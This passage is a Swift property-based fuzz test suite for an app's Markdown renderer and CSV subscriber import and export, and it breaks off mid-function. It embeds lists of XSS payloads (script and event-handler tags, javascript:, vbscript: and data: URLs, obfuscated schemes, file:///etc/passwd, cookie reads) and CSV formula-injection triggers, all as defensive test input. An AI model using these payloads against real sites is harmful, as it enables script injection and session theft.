import Fluent
import Foundation
import PropertyBased
import Testing
import Vapor
import VaporTesting

@testable import App

/// Property-based fuzzing (x-sheep/swift-property-based) of the two parsers that take text from
/// people: the Markdown of articles and newsletters, and the CSV of subscriber imports.
///
/// Each property is held three ways:
/// - a sweep with a fixed seed: thousands of generated inputs, the same ones on every run; a
///   failure names the case and saves the input in the temporary directory;
/// - `propertyCheck` with a fresh seed on every run; a failure prints the `.fixedSeed(…)` that
///   replays it (and shrinks the input where the generator is built from arrays);
/// - the corpus in Tests/Fixtures/fuzz-corpus, replayed on every run (see its README).
@Suite("Property-based fuzzing of the Markdown renderer and the CSV importer")
struct PropertyFuzzTests {
    typealias Seed = (UInt64, UInt64, UInt64, UInt64)

    static let markdownSeed: Seed = (0x5EED_0000_0000_0001, 0x9E37_79B9_7F4A_7C15, 0xBF58_476D_1CE4_E5B9, 0x94D0_49BB_1331_11EB)
    static let survivalSeed: Seed = (0x5EED_0000_0000_0002, 0xD1B5_4A32_D192_ED03, 0x8CB9_2BA7_2F3D_8DD7, 0xABC9_8388_FB8F_AC03)
    static let csvSeed: Seed = (0x5EED_0000_0000_0003, 0x2545_F491_4F6C_DD1D, 0x6A09_E667_F3BC_C908, 0xBB67_AE85_84CA_A73B)
    static let rowsSeed: Seed = (0x5EED_0000_0000_0004, 0x3C6E_F372_FE94_F82B, 0xA54F_F53A_5F1D_36F1, 0x510E_527F_ADE6_82D1)
    static let importSeed: Seed = (0x5EED_0000_0000_0005, 0x9B05_688C_2B3E_6C1F, 0x1F83_D9AB_FB41_BD6B, 0x5BE0_CD19_137E_2179)

    // MARK: Markdown

    /// Everything wrong with the HTML the renderer makes of `markdown`; empty when it is safe.
    static func markdownProblems(_ markdown: String) -> [String] {
        let html = MarkdownRenderer.html(markdown)
        var problems = HTMLSafety.problems(html)
        if LinkPolicy.apply(to: html) != html { problems.append("the link policy would still change the rendered HTML") }
        _ = MarkdownRenderer.plainText(markdown)
        if !problems.isEmpty { problems.append("rendered as \(FuzzSweep.excerpt(html))") }
        return problems
    }

    /// The safety problems, and the plain words of the input that the HTML lost.
    static func survivalProblems(_ input: SurvivalCase) -> [String] {
        let html = MarkdownRenderer.html(input.markdown)
        var problems = HTMLSafety.problems(html)
        let lost = input.words.filter { html.range(of: $0, options: .literal) == nil }
        if !lost.isEmpty { problems.append("the plain words \(lost) are missing from the HTML") }
        if !problems.isEmpty { problems.append("rendered as \(FuzzSweep.excerpt(html))") }
        return problems
    }

    @Test("2,500 generated hostile Markdown documents render without a crash to HTML with no script, frame, event handler or unsafe URL")
    func hostileMarkdownSweep() {
        FuzzSweep.run(
            "markdown", count: 2_500, seed: Self.markdownSeed, generator: MarkdownFuzz.documents, bytes: { Data($0.utf8) },
            check: { Self.markdownProblems($0) })
    }

    @Test("1,200 generated documents mixing hostile markup with plain words keep every plain word and stay safe")
    func plainWordsSurviveSweep() {
        FuzzSweep.run(
            "markdown-words", count: 1_200, seed: Self.survivalSeed, generator: MarkdownFuzz.survivalDocuments,
            bytes: { Data($0.markdown.utf8) }, check: { Self.survivalProblems($0) })
    }

    @Test("Hostile Markdown from a fresh seed renders safely too (a failure prints the seed that replays it)")
    func hostileMarkdownFreshSeed() async {
        await propertyCheck(count: 300, input: MarkdownFuzz.documents) { markdown in
            let problems = Self.markdownProblems(markdown)
            #expect(problems.isEmpty, "\(problems.joined(separator: "; "))")
        }
    }

    @Test("Every Markdown file of the fuzz corpus renders safely")
    func markdownCorpus() throws {
        let files = try FuzzCorpus.files("markdown", extension: "md")
        #expect((20...40).contains(files.count), "the Markdown corpus has \(files.count) files")
        for file in files {
            let problems = Self.markdownProblems(String(decoding: file.data, as: UTF8.self))
            #expect(problems.isEmpty, "\(file.name): \(problems.joined(separator: "; "))")
        }
    }

    // MARK: CSV reader and writer

    /// What the RFC 4180 reader gets wrong on a generated or corpus file, without the database.
    static func readerProblems(_ file: CSVCase) -> [String] {
        let newlines = file.data.reduce(0) { $0 + ($1 == 10 ? 1 : 0) }
        guard let text = String(data: file.data, encoding: .utf8) else {
            let line = SubscriberImport.firstInvalidLine(file.data)
            if let expected = file.badLine, line != expected {
                return ["the first byte that is not UTF-8 is on line \(expected), reported on line \(line)"]
            }
            return (1...(newlines + 1)).contains(line) ? [] : ["the first bad byte was reported on line \(line) of \(newlines + 1)"]
        }
        if let bad = file.badLine { return ["bytes that are not UTF-8 (line \(bad)) were decoded as UTF-8"] }
        var problems: [String] = []
        let records = CSVReader.parse(text)
        var previous = 0
        for record in records {
            if record.line <= previous || record.line > newlines + 1 {
                problems.append("a record starts on line \(record.line), after line \(previous), in a text of \(newlines + 1) lines")
            }
            if record.fields == [""] { problems.append("an empty record on line \(record.line) was kept") }
            previous = record.line
        }
        // Without quotes, CSV is lines split at commas (CR dropped, empty lines skipped): the
        // reader must agree with that exactly.
        if !text.unicodeScalars.contains("\"") {
            let expected = CSVFuzz.splitWithoutQuotes(text)
            if expected.count != records.count {
                problems.append("\(expected.count) records expected in text without quotes, \(records.count) read")
            } else {
                for (index, record) in records.enumerated() {
                    if record.line != expected[index].line || CSVFuzz.scalars(record.fields) != CSVFuzz.scalars(expected[index].fields) {
                        problems.append(
                            "record \(index + 1) read as line \(record.line) \(record.fields.debugDescription), expected line \(expected[index].line) \(expected[index].fields.debugDescription)"
                        )
                        break
                    }
                }
            }
        }
        return problems
    }

    /// Rows written by an RFC 4180 writer that quotes every field read back exactly, each on its line.
    static func referenceRoundTripProblems(_ input: RowsCase) -> [String] {
        var text = ""
        var newlines = 0
        var expectedLines: [Int] = []
        for index in input.rows.indices {
            expectedLines.append(newlines + 1)
            let line = input.rows[index].map { CSVFuzz.quoted($0) }.joined(separator: ",") + input.endings[index]
            newlines += line.unicodeScalars.filter { $0 == "\n" }.count
            text += line
        }
        let records = CSVReader.parse(text)
        guard records.count == input.rows.count else {
            return ["\(input.rows.count) rows written, \(records.count) read from \(FuzzSweep.excerpt(text))"]
        }
        var problems: [String] = []
        for (index, record) in records.enumerated() {
            if CSVFuzz.scalars(record.fields) != CSVFuzz.scalars(input.rows[index]) {
                problems.append("row \(index + 1) was read back as \(record.fields.debugDescription)")
            }
            if record.line != expectedLines[index] {
                problems.append("row \(index + 1) starts on line \(expectedLines[index]), read as line \(record.line)")
            }
        }
        return problems
    }

    /// A cell whose first character makes a spreadsheet evaluate it (OWASP's CSV injection list:
    /// `=`, `+`, `-`, `@`, tab, carriage return), judged by its first Unicode scalar.
    static func startsLikeFormula(_ cell: String) -> Bool {
        guard let first = cell.unicodeScalars.first else { return false }
        return "=+-@\t\r".unicodeScalars.contains(first)
    }

    /// Rows through the application's CSV writer (every export) read back as written, each cell that
    /// would start a formula behind a `'`, and the import's unescaping gives the original back.
    static func writerRoundTripProblems(_ input: RowsCase) -> [String] {
        var writer = CSVWriter()
        for row in input.rows { writer.row(row) }
        let records = CSVReader.parse(writer.text)
        var problems: [String] = []
        for record in records {
            for field in record.fields where startsLikeFormula(field) {
                problems.append("an exported cell starts a formula: \(field.debugDescription)")
            }
        }
        if records.count != input.rows.count {
            problems.append("\(input.rows.count) rows exported, \(records.count) read back from \(FuzzSweep.excerpt(writer.text))")
        } else {
            for (index, record) in records.enumerated() {
                let expected = input.rows[index].map { startsLikeFormula($0) ? "'" + $0 : $0 }
                if CSVFuzz.scalars(record.fields) != CSVFuzz.scalars(expected) {
                    problems.append("row \(input.rows[index].debugDescription) was exported as \(FuzzSweep.excerpt(writer.text))")
                }
            }
        }
        // A cell that already starts with ' and a formula character loses its ' on import (the
        // guard cannot tell it from its own); every other cell must come back unchanged.
        for cell in input.rows.joined()
        where !(cell.unicodeScalars.first == "'" && startsLikeFormula(String(String.UnicodeScalarView(cell.unicodeScalars.dropFirst())))) {
            let guarded = startsLikeFormula(cell) ? "'" + cell : cell
            if !SubscriberImport.unescaped(guarded).unicodeScalars.elementsEqual(cell.unicodeScalars) {
                problems.append("the import does not undo the export's guard of \(cell.debugDescription)")
            }
        }
        return Array(problems.prefix(6))
    }

    @Test(
        "3,000 generated CSV files: the reader never crashes, numbers records by line and agrees with a plain split when there are no quotes"
    )
    func csvReaderSweep() {
        FuzzSweep.run(
            "csv-reader", count: 3_000, seed: Self.csvSeed, generator: CSVFuzz.files, bytes: { $0.data },
            check: { Self.readerProblems($0) })
    }

    @Test("1,500 generated row sets written with every field quoted read back exactly, multi-line fields and all")
    func csvReferenceRoundTripSweep() {
        FuzzSweep.run(
            "csv-rfc4180", count: 1_500, seed: Self.rowsSeed, generator: CSVFuzz.rowSets, bytes: { Data($0.testDescription.utf8) },
            check: { Self.referenceRoundTripProblems($0) })
    }

    @Test("1,500 generated row sets through the export's CSV writer read back as written with every formula neutralised")
    func csvWriterSweep() {
        FuzzSweep.run(
            "csv-writer", count: 1_500, seed: Self.rowsSeed, generator: CSVFuzz.rowSets, bytes: { Data($0.testDescription.utf8) },
            check: { Self.writerRoundTripProblems($0) })
    }

    @Test("CSV files and rows from a fresh seed hold the reader's properties too (a failure prints the seed that replays it)")
    func csvFreshSeed() async {
        await propertyCheck(count: 400, input: CSVFuzz.files) { file in
            let problems = Self.readerProblems(file)
            #expect(problems.isEmpty, "\(problems.joined(separator: "; "))")
        }
        await propertyCheck(count: 200, input: CSVFuzz.rowSets) { rows in
            let problems = Self.referenceRoundTripProblems(rows)
            #expect(problems.isEmpty, "\(problems.joined(separator: "; "))")
        }
    }

    @Test("Every CSV file of the fuzz corpus holds the reader's properties")
    func csvCorpusReader() throws {
        let files = try FuzzCorpus.files("csv", extension: "csv")
        #expect((20...40).contains(files.count), "the CSV corpus has \(files.count) files")
        for file in files {
            let problems = Self.readerProblems(CSVCase(data: file.data, badLine: nil))
            #expect(problems.isEmpty, "\(file.name): \(problems.joined(separator: "; "))")
        }
    }

    // MARK: The importer

    /// What the importer should do with a file, worked out the way its documentation says: refuse
    /// it whole (not UTF-8, empty, an unknown column or none for addresses) or handle each row.
    enum ExpectedImport {
        case refused(String)
        case rows(emailColumn: Int, records: [CSVReader.Record])
    }

    static func expectedImport(_ data: Data) -> ExpectedImport {
        guard let text = String(data: data, encoding: .utf8) else { return .refused("not UTF-8") }
        var records = CSVReader.parse(text.hasPrefix("\u{FEFF}") ? String(text.dropFirst()) : text)
        guard !records.isEmpty else { return .refused("empty") }
        let header = records.removeFirst().fields.map { $0.trimmingCharacters(in: .whitespaces).lowercased() }
        if let unknown = header.first(where: { !["email", "name", "language", "lists", "status"].contains($0) }) {
            return .refused("unknown column \(unknown.debugDescription)")
        }
        guard let emailColumn = header.firstIndex(of: "email") else { return .refused("no email column") }
        return .rows(emailColumn: emailColumn, records: records)
    }

    /// What is wrong with an address the importer accepted, judged by the shape RFC 5321 and
    /// RFC 6531 give it rather than by the importer's own check: nil when nothing is. Only the
    /// ASCII characters are judged (RFC 6531 allows any other character in the local part).
    static func addressProblem(_ email: String) -> String? {
        if email != email.lowercased() { return "it is not lower case" }
        if email != email.trimmingCharacters(in: .whitespacesAndNewlines) { return "it has white space around it" }
        if email.utf8.count > 254 { return "it is longer than 254 bytes" }
        var local = ""
        var domain = ""
        var ats = 0
        for scalar in email.unicodeScalars {
            if scalar == "@" {
                ats += 1
            } else if ats == 0 {
                local.unicodeScalars.append(scalar)
            } else {
                domain.unicodeScalars.append(scalar)
            }
        }
        guard ats == 1 else { return "it has \(ats) @ signs" }
        guard !local.isEmpty, local.utf8.count <= 64 else { return "its local part is empty or longer than 64 bytes" }
        for scalar in local.unicodeScalars where scalar.isASCII {
            if scalar.value < 0x20 || scalar.value == 0x7F {
                return "its local part has the control character U+\(String(scalar.value, radix: 16))"
            }
            if " \"(),:;<>[\\]".unicodeScalars.contains(scalar) {
                return "its local part has \(String(Character(scalar)).debugDescription)"
            }
        }
        if local.hasPrefix(".") || local.hasSuffix(".") || local.contains("..") { return "its local part has a misplaced dot" }
        var labels: [String] = [""]
        for scalar in domain.unicodeScalars {
            if scalar == "." {
                labels.append("")
            } else {
                labels[labels.count - 1].unicodeScalars.append(scalar)
            }
            let isLetterOrDigit = (0x61...0x7A).contains(scalar.value) || (0x30...0x39).contains(scalar.value)
            if scalar.isASCII, !(scalar == "." || scalar == "-" || isLetterOrDigit) {
                return "its domain has \(String(Character(scalar)).debugDescription)"
            }
        }
        guard labels.count >= 2 else { return "its domain has no dot" }
        for label in labels where label.isEmpty || label.utf8.count > 63 || label.hasPrefix("-") || label.hasSuffix("-") {
            return "its domain has the label \(label.debugDescription)"
        }
        return nil
    }

    /// Imports one file and returns what went wrong: a row neither imported nor rejected, a
    /// rejection that names no row, an accepted address that is not a valid normalised one, a
    /// refused file that still wrote something.
    static func importProblems(_ data: Data, importer: SubscriberImport, on db: any Database) async throws -> [String] {
        let before = Set(try await Subscriber.query(on: db).all().map(\.email))
        let countBefore = try await Subscriber.query(on: db).count()
        let expected = expectedImport(data)
        let report: SubscriberImport.Report
        do {
            report = try await importer.run(data, on: db)
        } catch let failure as SubscriberImport.Failure {
            var problems: [String] = []
            if case .rows = expected { problems.append("a readable file was refused: \(failure)") }
            if case .notUTF8(let line) = failure, line != SubscriberImport.firstInvalidLine(data) {
                problems.append("\(failure) names the wrong line")
            }
            let after = try await Subscriber.query(on: db).count()
            if after != countBefore { problems.append("the refused file still changed the subscribers from \(countBefore) to \(after)") }
            return problems
        }
        guard case .rows(let emailColumn, let records) = expected else {
            return ["a file that should have been refused whole (\(expected)) was imported: \(report)"]
        }
        var problems: [String] = []
        let handled = report.imported + report.alreadySubscribed + report.rejections.count
        if handled != records.count {
            problems.append(
                "\(records.count) rows, but \(report.imported) imported + \(report.alreadySubscribed) already subscribed + \(report.rejections.count) rejected"
            )
        }
        let lines = Set(records.map(\.line))
        let rejected = Set(report.rejections.map(\.line))
        if rejected.count != report.rejections.count { problems.append("a line was rejected twice: \(report.rejections.map(\.line))") }
        let accepted = lines.subtracting(rejected)
        for rejection in report.rejections {
            if !lines.contains(rejection.line) { problems.append("line \(rejection.line) was rejected, but no row starts there") }
            if rejection.reason.trimmingCharacters(in: .whitespaces).isEmpty {
                problems.append("line \(rejection.line) was rejected without a reason")
            }
            let duplicate = "duplicate of line "
            if rejection.reason.hasPrefix(duplicate), let first = Int(rejection.reason.dropFirst(duplicate.count)),
                !(first < rejection.line && accepted.contains(first))
            {
                problems.append("line \(rejection.line) is called a \(rejection.reason), which is no earlier accepted row")
            }
        }
        let after = Set(try await Subscriber.query(on: db).all().map(\.email))
        let added = try await Subscriber.query(on: db).count() - countBefore
        if added != report.imported { problems.append("\(report.imported) reported imported, \(added) subscribers added") }
        for record in records where !rejected.contains(record.line) {
            guard emailColumn < record.fields.count else {
                problems.append("line \(record.line) was accepted without an address field")
                continue
            }
            let email = Subscriber.normalise(SubscriberImport.unescaped(record.fields[emailColumn].trimmedOfWhitespace))
            if let problem = addressProblem(email) {
                problems.append("line \(record.line) was accepted with the address \(email.debugDescription), but \(problem)")
            }
            if !after.contains(email) { problems.append("line \(record.line) was accepted, but \(email.debugDescription) is not stored") }
        }
        for email in after.subtracting(before) {
            if let problem = addressProblem(email) { problems.append("\(email.debugDescription) was stored, but \(problem)") }
        }
        return Array(problems.prefix(8))
    }

    @Test(
        "The importer on every corpus file and 150 generated ones: each file refused whole for a stated reason, or each row imported with a valid normalised address or rejected naming its line; the export then starts no cell with a formula"
    )
    func importerProperty() async throws {
        try await withApp(loadDemo: true) { app async throws in
            let importer = SubscriberImport(status: .confirmed, source: "import:fuzz.csv", defaultLists: [])
            var failures = 0
            for file in try FuzzCorpus.files("csv", extension: "csv") {
                let problems = try await Self.importProblems(file.data, importer: importer, on: app.db)
                if !problems.isEmpty {
                    failures += 1
                    Issue.record("corpus file \(file.name): \(problems.joined(separator: "; "))")
                }
            }
            var rng = Xoshiro(seed: Self.importSeed)
            for index in 0..<150 where failures < 8 {
                let file = CSVFuzz.files.run(using: &rng)
                let problems = try await Self.importProblems(file.data, importer: importer, on: app.db)
                if !problems.isEmpty {
                    failures += 1
                    let saved = FuzzSweep.save(file.data, as: "csv-import-\(index).csv")
                    Issue.record("generated file \(index) (fixed seed): \(problems.joined(separator: "; "))\nThe file is saved in \(saved)")
                }
            }

            let editor = try await signIn(app, as: Demo.editor)
            let response = try await app.testing().sendRequest(.GET, "/admin/subscribers/export.csv", headers: editor)
            #expect(response.status == .ok)
            let records = CSVReader.parse(response.body.string)
            let subscribers = try await Subscriber.query(on: app.db).count()
            #expect(records.count == subscribers + 1, "\(subscribers) subscribers exported as \(records.count) records (with the header)")
            let formulas = records.flatMap(\.fields).filter { Self.startsLikeFormula($0) }
            #expect(formulas.isEmpty, "exported cells that start a formula: \(formulas.prefix(10).map(\.debugDescription))")
        }
    }
}

// MARK: - Sweeps and the corpus

enum FuzzSweep {
    /// Runs `check` on `count` inputs drawn from `generator` with a fixed seed, so every run sees
    /// the same inputs. The first few failing inputs are reported, each saved to a file.
    static func run<Value>(
        _ label: String, count: Int, seed: PropertyFuzzTests.Seed, generator: Generator<Value, some Sequence>,
        bytes: (Value) -> Data, check: (Value) -> [String]
    ) {
        var rng = Xoshiro(seed: seed)
        var failures = 0
        for index in 0..<count {
            let value = generator.run(using: &rng)
            let problems = check(value)
            guard !problems.isEmpty else { continue }
            failures += 1
            let saved = save(bytes(value), as: "\(label)-\(index)")
            Issue.record(
                "\(label), case \(index) of \(count) (fixed seed): \(problems.joined(separator: "; "))\nThe input is saved in \(saved); once the cause is fixed, add it to Tests/Fixtures/fuzz-corpus."
            )
            if failures == 3 { return }
        }
    }

    /// Writes a failing input to the temporary directory and returns its path.
    static func save(_ data: Data, as name: String) -> String {
        let url = FileManager.default.temporaryDirectory.appendingPathComponent("focal-fuzz-" + name)
        try? data.write(to: url)
        return url.path
    }

    /// The start of a long text, escaped, for a failure message.
    static func excerpt(_ text: String, limit: Int = 800) -> String {
        let scalars = text.unicodeScalars
        guard scalars.count > limit else { return text.debugDescription }
        var head = ""
        head.unicodeScalars.append(contentsOf: scalars.prefix(limit))
        return head.debugDescription + " … (\(scalars.count) characters in all)"
    }
}

enum FuzzCorpus {
    static let root = ExactlyOnceTests.packageRoot.appendingPathComponent("Tests/Fixtures/fuzz-corpus")

    /// The files of one folder of the corpus, by name.
    static func files(_ folder: String, extension suffix: String) throws -> [(name: String, data: Data)] {
        let directory = root.appendingPathComponent(folder)
        let names = try FileManager.default.contentsOfDirectory(atPath: directory.path).filter { $0.hasSuffix("." + suffix) }.sorted()
        var files: [(name: String, data: Data)] = []
        for name in names { files.append((name: name, data: try Data(contentsOf: directory.appendingPathComponent(name)))) }
        return files
    }
}

// MARK: - Random choices

/// Choices drawn from the random number generator PropertyBased hands a generator.
enum Draw {
    typealias RNG = any SeededRandomNumberGenerator

    static func int(_ range: ClosedRange<Int>, _ rng: inout RNG) -> Int {
        Int.random(in: range, using: &rng)
    }

    static func chance(_ probability: Double, _ rng: inout RNG) -> Bool {
        Double.random(in: 0..<1, using: &rng) < probability
    }

    static func pick<T>(_ items: [T], _ rng: inout RNG) -> T {
        items[int(0...(items.count - 1), &rng)]
    }

    /// An index into `weights`, each as likely as its weight.
    static func weighted(_ weights: [Int], _ rng: inout RNG) -> Int {
        var roll = int(0...(weights.reduce(0, +) - 1), &rng)
        for (index, weight) in weights.enumerated() {
            if roll < weight { return index }
            roll -= weight
        }
        return weights.count - 1
    }

    /// Unicode scalars from every corner: ASCII, controls, Latin, combining marks, Hebrew and
    /// Arabic, bidirectional controls, CJK, emoji, private use, noncharacters, the astral planes.
    static let scalarRanges: [ClosedRange<UInt32>] = [
        0x20...0x7E, 0x00...0x1F, 0x7F...0x2FF, 0x300...0x36F, 0x590...0x6FF, 0x2000...0x206F, 0x3000...0x9FFF, 0x1F300...0x1FAFF,
        0xE000...0xF8FF, 0xFFF0...0xFFFF, 0x10000...0x10FFFF,
    ]
    static let scalarWeights = [40, 6, 6, 6, 6, 4, 8, 4, 2, 2, 2]

    static func text(_ rng: inout RNG, count: ClosedRange<Int>) -> String {
        var result = ""
        for _ in 0..<int(count, &rng) {
            let range = scalarRanges[weighted(scalarWeights, &rng)]
            result.unicodeScalars.append(Unicode.Scalar(UInt32.random(in: range, using: &rng)) ?? "?")
        }
        return result
    }

    static let noise = [
        "\u{0}", "\t", "\n", "\r", "\u{1B}", "\u{7F}", "\u{200B}", "\u{202E}", "\u{FEFF}", "\u{301}", "<", ">", "\"", "'", "&", "\\", "`",
    ]

    /// The text with a few scalars inserted, deleted, repeated or changed in case.
    static func mutate(_ original: String, _ rng: inout RNG) -> String {
        var scalars = Array(original.unicodeScalars)
        for _ in 0..<int(1...3, &rng) {
            if scalars.isEmpty { break }
            let at = int(0...scalars.count, &rng)
            let existing = min(at, scalars.count - 1)
            switch int(0...4, &rng) {
            case 0:
                scalars.insert(contentsOf: Array(pick(noise, &rng).unicodeScalars), at: at)
            case 1:
                let character = String(Character(scalars[existing]))
                let flipped = character.uppercased() == character ? character.lowercased() : character.uppercased()
                scalars.replaceSubrange(existing...existing, with: Array(flipped.unicodeScalars))
            case 2:
                scalars.remove(at: existing)
            case 3:
                let end = min(scalars.count, existing + int(1...8, &rng))
                let slice = Array(scalars[existing..<end])
                scalars.insert(contentsOf: slice, at: at)
            default:
                let inserted = Draw.text(&rng, count: 1...3)
                scalars.insert(contentsOf: Array(inserted.unicodeScalars), at: at)
            }
        }
        var result = ""
        result.unicodeScalars.append(contentsOf: scalars)
        return result
    }
}

// MARK: - Markdown generators

/// A document and the plain words in it that must reach the HTML.
struct SurvivalCase: Sendable, CustomTestStringConvertible {
    let markdown: String
    let words: [String]
    var testDescription: String { markdown.debugDescription }
}

enum MarkdownFuzz {
    typealias RNG = Draw.RNG

    /// Hostile documents: 1 to 24 fragments, each with its separator. Built on an array so that
    /// `propertyCheck` can shrink a failing document to the fragments that matter.
    static let fragments = Generator<String, Shrink.None<String>> { rng in MarkdownFuzz.hostileFragment(&rng) }
    static let documents = fragments.array(of: 1...24).map { $0.joined() }

    /// Documents of well-formed blocks mixing hostile markup with plain words.
    static let survivalDocuments = Generator<SurvivalCase, Shrink.None<SurvivalCase>> { rng in MarkdownFuzz.survivalDocument(&rng) }

    static let tagNames = [
        "script", "iframe", "img", "svg", "a", "object", "embed", "style", "math", "form", "input", "body", "details", "video", "audio",
        "base", "meta", "link", "frameset", "frame", "div", "p", "xss", "template", "textarea", "noscript", "marquee", "isindex", "button",
        "animate", "mi", "xmp", "plaintext",
    ]
    static let eventNames = [
        "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onanimationstart", "OnErRoR", "onpointerenter",
        "ONLOAD", "onauxclick", "onbeforeprint",
    ]
    static let schemes = [
        "javascript", "vbscript", "data", "file", "livescript", "mocha", "jar", "view-source", "feed", "ms-its", "mhtml", "blob",
        "filesystem", "javascript", "javascript", "data",
    ]
    static let afterColon = [
        "alert(1)", "alert(document.cookie)", "msgbox(1)", "prompt(1)", "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "image/png;base64,iVBORw0KGgo=", "image/gif;base64,R0lGODlhAQABAAAAACw=",
        "//%0aalert(1)", "///etc/passwd", "//example.org/%0Aalert(1)", "text/html,<script>alert(1)</script>",
        "image/svg+xml,<svg onload=alert(1)>", "window.onerror=alert;throw%20document.cookie",
    ]
    static let afterColonLineSafe = afterColon.filter { !$0.contains("<") }
    static let inSchemeNoise = [
        "\t", "\n", "\r", "&#x09;", "&#9;", "&#10;", "&#x0A;", "&#13;", "%09", "%0a", "\u{0}", " ", "\u{200B}", "&Tab;", "&NewLine;", "\\",
        "\u{AD}",
    ]
    static let inSchemeNoiseLineSafe = inSchemeNoise.filter { $0 != "\n" && $0 != "\r" }
    static let oddURLs = [
        "//evil.example/x", "\\\\evil.example", "/\\evil.example", "\\/evil.example", "///evil.example", "https:\\\\evil.example",
        "https://ok.example/\"onmouseover=\"alert(1)", "https://ok.example/'onmouseover='alert(1)", "http://a?p=[[/onclick=alert(0) .]]",
        "mailto:a@b.org?body=x", "#frag", "?q=1", "/relative/path", "relative/with:colon", "https:evil.example", "HTTPS://OK.EXAMPLE",
        " https://ok.example", "ftp://example.org", "tel:+123", "x-javascript:alert(1)", "javascript", "&#x6A;avascript&colon;alert(1)",
        "java&#115;cript:alert(1)", "&#0000106avascript:alert(1)",
    ]
    static let structural = [
        "\n", "\n\n", "\r", "\r\n", "    ", "\t", "> ", "- ", "* ", "+ ", "1. ", "# ", "###### ", "```", "~~~", "```html\n", "|",
        "| a | b |\n|---|---|\n", "---\n", "===\n", "[", "]", "(", ")", "![", "](", "<", ">", "</", "/>", "\"", "'", "`", "``", "*", "**",
        "_", "__", "~~", "\\", "&", "&#", ";", "<!--", "-->", "<![CDATA[", "]]>", "<?", "?>", "<!X", "[^1]", "[x]: ", "www.", "http://",
        "@", "a@b.c", "mailto:", "xmpp:", ":", "=", "\u{0}",
    ]
    static let entities = [
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3C;iframe&#x3E;", "&amp;lt;script&amp;gt;", "&#0;", "&#x0;",
        "&#xD800;", "&#1114112;", "&#99999999999;", "&NotARealEntity;", "&nbsp;", "&copy;", "&#x110000;", "&quot;", "&apos;", "&#34;",
        "&#39;", "&colon;", "&Tab;", "&#x6A;avascript&#58;",
    ]
    static let unicodeSamples = [
        "中文内容", "測試", "日本語のテキスト", "한국어", "مرحبا بالعالم", "שלום", "\u{202E}gnp.exe\u{202C}", "\u{202D}x\u{202C}",
        "\u{2066}x\u{2069}", "e\u{301}\u{302}\u{303}\u{304}", "Z\u{351}\u{35B}\u{489}", "👩‍👩‍👧‍👦", "🏳️‍🌈", "\u{200B}\u{200C}\u{200D}",
        "\u{FEFF}", "\u{FFFD}", "\u{FFFE}", "\u{10FFFF}", "\u{E000}", "\u{1D54C}\u{1D55F}", "ﷺ", "\u{2028}", "\u{2029}", "\u{85}",
        "\u{A0}", "ｊａｖａｓｃｒｉｐｔ", "ǅ", "İ", "ß",
    ]
    static let controls: [String] =
        (0...31).map { String(Character(Unicode.Scalar(UInt8($0)))) } + ["\u{7F}", "\u{80}", "\u{85}", "\u{9F}"]
    static let controlsLineSafe = controls.filter { $0 != "\n" && $0 != "\r" }
    static let separators = ["", "", " ", " ", "\n", "\n\n", "\n\n", "\r\n", "\t", "\r", "\n    ", "\n> "]

    // Well-formed pieces for the documents whose plain words must survive: every tag is complete,
    // nothing holds a line break or a table's bar, so no piece can swallow its neighbours.
    static let completeTags = [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<a href=\"javascript:alert(1)\" onclick=\"alert(1)\">", "</a>", "<svg onload=alert(1)>", "<b onmouseover=alert(1)>", "</b>",
        "<!-- hidden -->", "<details open ontoggle=alert(1)>", "<style>p{}</style>", "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)>", "<input autofocus onfocus=alert(1)>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", "<body onload=alert(1)>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<base href=\"javascript:/\">",
        "<IMG SRC=# onmouseover=\"alert('xss')\">", "<x onpointerenter=alert(1)>",
    ]
    static let completeAutolinks = [
        "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>", "<vbscript:msgbox(1)>",
        "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
        "<file:///etc/passwd>", "<https://ok.example/x>",
    ]
    static let closedHTMLBlocks = [
        "<script>alert(1)</script>", "<iframe src=javascript:alert(1)></iframe>", "<div onclick=\"alert(1)\">x</div>",
        "<!-- <script>alert(1)</script> -->", "<style>body{background:url(javascript:alert(1))}</style>", "<img src=x onerror=alert(1)>",
        "<svg><script>alert(1)</script></svg>", "<table><tr><td onmouseover=alert(1)>x</td></tr></table>",
    ]
    static let definitions = "[evil]: javascript:alert(1)\n[pic]: data:image/svg+xml;base64,PHN2Zz4=\n[vb]: <vbscript:msgbox(1)>"

    // MARK: Hostile fragments

    static func hostileFragment(_ rng: inout RNG) -> String {
        var fragment: String
        switch Draw.weighted([20, 14, 14, 12, 5, 10, 4, 4, 3, 3, 3, 3, 1], &rng) {
        case 0: fragment = Draw.pick(MarkdownSafetyTests.payloads, &rng)
        case 1:
            let text = shortText(&rng)
            fragment = hostileLink(&rng, text: text)
        case 2: fragment = rawTag(&rng)
        case 3: fragment = Draw.pick(structural, &rng)
        case 4: fragment = Draw.pick(entities, &rng)
        case 5: fragment = noise(&rng)
        case 6:
            let text = shortText(&rng)
            fragment = emphasis(around: text, &rng)
        case 7:
            let text = shortText(&rng)
            fragment = containers(&rng, depth: 1...40) + text
        case 8: fragment = brackets(&rng)
        case 9: fragment = backticks(&rng)
        case 10: fragment = table(&rng)
        case 11: fragment = word(&rng)
        default: fragment = longLine(&rng)
        }
        if Draw.chance(0.2, &rng) { fragment = Draw.mutate(fragment, &rng) }
        return fragment + Draw.pick(separators, &rng)
    }

    static func word(_ rng: inout RNG) -> String {
        var word = "zq"
        for _ in 0..<6 { word.unicodeScalars.append(Unicode.Scalar(UInt8(Draw.int(97...122, &rng)))) }
        return word
    }

    static func shortText(_ rng: inout RNG) -> String {
        switch Draw.int(0...4, &rng) {
        case 0: return "x"
        case 1: return Draw.pick(["click", "alert(1)", "report", "<b>x</b>", "x\" onmouseover=\"alert(1)"], &rng)
        case 2: return word(&rng)
        case 3: return Draw.pick(unicodeSamples, &rng)
        default: return Draw.text(&rng, count: 1...8)
        }
    }

    static func noise(_ rng: inout RNG) -> String {
